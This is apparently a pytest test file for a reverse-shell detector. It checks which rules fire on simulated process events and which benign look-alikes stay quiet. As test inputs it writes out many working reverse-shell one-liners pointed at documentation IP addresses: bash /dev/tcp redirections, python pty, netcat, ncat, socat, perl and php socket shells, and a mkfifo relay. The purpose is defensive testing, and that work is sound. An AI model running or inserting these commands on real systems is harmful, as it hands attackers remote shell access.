"""reverse_shell: sockets on a shell's stdio, /dev/tcp redirections and one-liners."""

from __future__ import annotations

import pytest
from detector_factories import alerts, dup2, execve, init, login_shell, proc, run, sec, sh_c

from vigil.detectors.reverse_shell import ReverseShellDetector
from vigil.events.model import Event, FdInfo
from vigil.priority import Priority


def webshell_parent():
    return proc("/usr/sbin/nginx", pid=101, uid=33, user="www-data", parent=init())


def test_bash_dev_tcp_one_liner_fires() -> None:
    sh = sh_c("bash -i >& /dev/tcp/203.0.113.7/4444 0>&1", parent=webshell_parent(), pid=600)
    dets = run(ReverseShellDetector(), [execve(sh)])
    assert [d.rule_id for d in alerts(dets)] == ["reverse_shell.dev_tcp"]
    d = dets[0]
    assert d.entity.ip == "203.0.113.7" and d.data["port"] == 4444
    assert d.priority == Priority.CRITICAL and "T1059.004" in d.tags


def test_shell_whose_stdio_became_a_socket_through_dup2() -> None:
    bash = proc("/usr/bin/bash", pid=610, uid=33, parent=webshell_parent())
    dets = run(ReverseShellDetector(), [dup2(bash, 0, ts=sec(0)), dup2(bash, 1, ts=sec(0.01)),
                                        dup2(bash, 2, ts=sec(0.02))])
    assert [d.rule_id for d in alerts(dets)] == ["reverse_shell.socket_stdio"]
    assert dets[0].entity.ip == "203.0.113.7"


def test_python_pty_reverse_shell_is_one_detection() -> None:
    code = ("import socket,os,pty;s=socket.socket();s.connect(('203.0.113.7',4444));"
            "[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn('/bin/bash')")
    py = proc("/usr/bin/python3.11", "-c", code, pid=620, parent=login_shell())
    dets = run(ReverseShellDetector(), [execve(py), dup2(py, 0), dup2(py, 1)])
    assert [d.rule_id for d in alerts(dets)] == ["reverse_shell.one_liner"]


def test_bash_dev_tcp_redirect_then_dup2s_and_exec_are_one_detection() -> None:
    """bash -c parses the redirect itself: dup2(s,1), dup2(s,2), dup2(1,0), exec bash -i."""
    bash = proc("/usr/bin/bash", "-c", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1", pid=625,
                parent=login_shell())
    interactive = proc("/usr/bin/bash", "-i", pid=625, parent=login_shell())
    dets = run(ReverseShellDetector(), [
        execve(bash), dup2(bash, 1), dup2(bash, 2), dup2(bash, 0),
        execve(interactive, fd_types={0: "ipv4", 1: "ipv4", 2: "ipv4"})])
    assert [d.rule_id for d in dets] == ["reverse_shell.dev_tcp"]


def test_exec_with_socket_stdio_from_fd_table() -> None:
    bash = proc("/usr/bin/bash", "-i", pid=630, parent=login_shell())
    dets = run(ReverseShellDetector(), [execve(bash, fd_types={0: "ipv4", 1: "ipv4",
                                                               2: "ipv4"})])
    assert [d.rule_id for d in alerts(dets)] == ["reverse_shell.socket_stdio"]


@pytest.mark.parametrize("exe,args", [
    ("/usr/bin/nc.traditional", ("-e", "/bin/sh", "203.0.113.7", "4444")),
    ("/usr/bin/ncat", ("203.0.113.7", "4444", "--exec", "/bin/bash")),
    ("/usr/bin/socat", ("tcp:203.0.113.7:4444", "exec:/bin/bash,pty,stderr,setsid")),
    ("/usr/bin/perl", ("-e", 'use Socket;socket(S,PF_INET,SOCK_STREAM,0);'
                             'connect(S,sockaddr_in(4444,inet_aton("203.0.113.7")));'
                             'open(STDIN,">&S");exec("/bin/sh -i");')),
    ("/usr/bin/php8.2", ("-r", '$s=fsockopen("203.0.113.7",4444);exec("/bin/sh -i <&3 >&3");')),
])
def test_classic_one_liners(exe: str, args: tuple[str, ...]) -> None:
    p = proc(exe, *args, pid=640, parent=login_shell())
    dets = run(ReverseShellDetector(), [execve(p)])
    assert [d.rule_id for d in alerts(dets)] == ["reverse_shell.one_liner"]


def test_benign_look_alikes() -> None:
    shell = login_shell()
    benign = [
        proc("/usr/bin/nc", "-z", "db", "5432", pid=650, parent=shell),
        proc("/usr/bin/socat", "TCP-LISTEN:8080,fork", "TCP:127.0.0.1:80", pid=651,
             parent=shell),
        proc("/usr/bin/grep", "bash -i >& /dev/tcp/", "notes.txt", pid=652, parent=shell),
        proc("/usr/bin/python3", "-c", "import socket; print(socket.gethostname())", pid=653,
             parent=shell),
    ]
    assert run(ReverseShellDetector(), [execve(p) for p in benign]) == []


@pytest.mark.parametrize("command", [
    "until echo > /dev/tcp/db/5432; do sleep 1; done",
    # wait-for-it: stdin alone on the socket, nothing reads commands from it
    "</dev/tcp/127.0.0.1/8080",
    # a container health check: the socket is fd 3; printf writes to it, head reads it
    "exec 3<>/dev/tcp/127.0.0.1/8080; printf 'GET /health HTTP/1.0\\r\\n\\r\\n' >&3; "
    "head -1 <&3; exec 3>&-",
    "cat < /dev/tcp/127.0.0.1/8080 > /tmp/page",
])
def test_dev_tcp_without_a_program_on_stdin_and_stdout_is_not_a_reverse_shell(
        command: str) -> None:
    """Issue 12: a reverse shell is a program with stdin *and* stdout on the socket, not
    any use of /dev/tcp (before the fix, the health check was Critical five times)."""
    probe = sh_c(command, parent=init(), pid=660)
    assert run(ReverseShellDetector(), [execve(probe)]) == []


@pytest.mark.parametrize("command", [
    "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1",
    "exec 5<>/dev/tcp/203.0.113.7/4444; sh <&5 >&5 2>&5",
    "0<&196;exec 196<>/dev/tcp/203.0.113.7/4444; sh <&196 >&196 2>&196",
    "exec 3<>/dev/tcp/203.0.113.7/4444; exec 0<&3 1>&3; id",
    "python3 -i < /dev/tcp/203.0.113.7/4444 > /dev/tcp/203.0.113.7/4444",
])
def test_dev_tcp_variants_putting_a_shell_on_the_socket(command: str) -> None:
    sh = sh_c(command, parent=login_shell(), pid=661)
    assert [d.rule_id for d in run(ReverseShellDetector(), [execve(sh)])] == [
        "reverse_shell.dev_tcp"]


def test_bash_builtin_redirect_then_restore_is_not_a_socket_on_stdio() -> None:
    """`printf >&3` makes bash dup2(3, 1) for the builtin and put its stdout back after;
    `head <&3` is another process. The shell's stdin and stdout never share the socket."""
    bash = proc("/usr/bin/bash", "-c", "...", pid=662, parent=init())
    restore = Event(type="dup2", res=1, proc=bash, fd=FdInfo(num=10, type="pipe"))
    stdin_from_file = Event(type="dup2", res=0, proc=bash, fd=FdInfo(num=11, type="file"))
    dets = run(ReverseShellDetector(), [dup2(bash, 1), restore, stdin_from_file,
                                        dup2(bash, 0)])
    assert dets == []


def test_two_different_sockets_on_stdin_and_stdout_are_not_one_channel() -> None:
    bash = proc("/usr/bin/bash", "-i", pid=663, parent=login_shell())
    ev = Event(type="execve", res=0, proc=bash)
    bash.stdio = [FdInfo(num=0, type="ipv4", ino=11, rip="203.0.113.7", rport=80),
                  FdInfo(num=1, type="ipv4", ino=12, rip="198.51.100.2", rport=514),
                  FdInfo(num=2, type="file", name="/dev/null")]
    assert run(ReverseShellDetector(), [ev]) == []
    bash.stdio[1] = FdInfo(num=1, type="ipv4", ino=11, rip="203.0.113.7", rport=80)
    assert [d.rule_id for d in run(ReverseShellDetector(), [ev])] == [
        "reverse_shell.socket_stdio"]


def _piped_shell(pid: int, reader_pid: int, reader: str, args: tuple[str, ...] = ("-i",)):
    from vigil.events.model import Peer
    sh = proc("/usr/bin/sh", *args, pid=pid, parent=proc("/usr/bin/sh", pid=pid - 1,
                                                        parent=login_shell()))
    sh.stdio = [FdInfo(num=0, type="pipe", ino=21, end="r",
                       peer=Peer(pid=pid + 1, name="cat", exepath="/usr/bin/cat")),
                FdInfo(num=1, type="pipe", ino=22, end="w",
                       peer=Peer(pid=reader_pid, name=reader.rpartition("/")[2],
                                 exepath=reader)),
                FdInfo(num=2, type="pipe", ino=22, end="w")]
    return sh


def test_mkfifo_reverse_shell_through_a_network_relay() -> None:
    """`cat f | sh -i 2>&1 | nc h p > f`: no socket on sh's stdio; its output goes into nc."""
    sh = _piped_shell(700, 702, "/usr/bin/nc.openbsd")
    dets = run(ReverseShellDetector(), [execve(sh)])
    assert [d.rule_id for d in dets] == ["reverse_shell.pipe_relay"]


def test_mkfifo_reverse_shell_through_a_renamed_relay_that_connects_later() -> None:
    from detector_factories import connect
    sh = _piped_shell(710, 712, "/tmp/.x/kworker")
    relay = proc("/tmp/.x/kworker", "198.51.100.9", "4444", pid=712, parent=sh.parent)
    dets = run(ReverseShellDetector(), [execve(sh), connect(relay, "198.51.100.9", 4444,
                                                            ts=sec(0.2))])
    assert [d.rule_id for d in dets] == ["reverse_shell.pipe_relay"]
    assert "198.51.100.9:4444" in dets[0].output


def test_shell_piped_into_a_local_program_is_not_a_reverse_shell() -> None:
    from detector_factories import connect
    sh = _piped_shell(720, 722, "/usr/bin/tee")
    script = _piped_shell(730, 732, "/usr/bin/nc.openbsd", args=("deploy.sh",))
    other = proc("/usr/bin/curl", pid=999, parent=init())
    assert run(ReverseShellDetector(), [execve(sh), execve(script),
                                        connect(other, "198.51.100.9", 443)]) == []


def test_superserver_handing_socket_as_stdio_is_suppressed() -> None:
    xinetd = proc("/usr/sbin/xinetd", pid=670, parent=init())
    child = proc("/usr/bin/bash", pid=671, parent=xinetd)
    dets = run(ReverseShellDetector(), [dup2(child, 0), dup2(child, 1)])
    assert len(dets) == 1 and dets[0].suppressed.entry == "reverse_shell.superservers=xinetd"


def test_single_stdio_socket_non_stdio_fd_or_unix_socket_is_not_reported() -> None:
    bash = proc("/usr/bin/bash", pid=680, parent=login_shell())
    unix = Event(type="dup2", res=0, proc=bash, fd=FdInfo(num=3, type="unix"))
    unix1 = Event(type="dup2", res=1, proc=bash, fd=FdInfo(num=3, type="unix"))
    assert run(ReverseShellDetector(), [dup2(bash, 1), dup2(bash, 5), unix, unix1]) == []


def test_close_then_dup_onto_stdio_counts_too() -> None:
    """`close(0); dup(s)` returns 0: the result is the new fd for plain dup as well."""
    bash = proc("/usr/bin/bash", pid=690, parent=login_shell())
    ev = [Event(type="dup", res=n, proc=bash, args={"fd": 3},
                fd=FdInfo(num=n, type="ipv4", rip="203.0.113.7", rport=443)) for n in (0, 1)]
    assert [d.rule_id for d in run(ReverseShellDetector(), ev)] == ["reverse_shell.socket_stdio"]
